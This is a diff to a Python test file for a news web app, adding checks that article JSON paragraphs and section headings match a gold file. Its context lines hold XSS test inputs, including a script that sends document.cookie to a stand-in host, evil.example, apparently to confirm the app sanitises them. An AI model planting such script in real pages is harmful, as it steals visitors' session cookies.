@@ -12,6 +12,8 @@ from newsprism.present.web.app import CSP, MAX_UPLOAD_BYTES
 
 from .conftest import SEEDS
 
+GOLD = json.loads((SEEDS / "gold.json").read_text(encoding="utf-8"))
+
 TOKEN = "test-token-123"
 EVIL_TITLE = '<script>alert("t")</script><img src=x onerror="alert(1)">'
 EVIL_BODY = ('The minister said <script>document.location="http://evil.example/"+document.cookie</script> '
@@ -103,6 +105,12 @@ def test_pages_and_their_json_twins(client):
         assert page.status_code == 200 and "Removed from the page" in page.text
         twin = client.get(f"/article/{row['id']}.json").json()
         assert twin["id"] == row["id"] and "".join(s["text"] for s in twin["segments"]) == twin["text"]
+        paras = ["".join(s["text"] for s in p["segments"]) for p in twin["paragraphs"]]
+        assert "\n\n".join(paras) == twin["text"]
+        shown = [p["heading"] for p in twin["paragraphs"] if p["heading"]]
+        outlet_key = "dw" if twin["outlet"] == "DW" else "trt"
+        assert shown == GOLD["articles"][outlet_key]["not_body"]["section_headings"]
+        assert all(f"<h3>{h}</h3>" in page.text for h in shown)
     outlet = client.get("/outlet/DW.json").json()
     assert outlet["outlet"] == "DW" and len(outlet["articles"]) == 1
     assert client.get("/search.json?q=tomatoes").json()["results"]
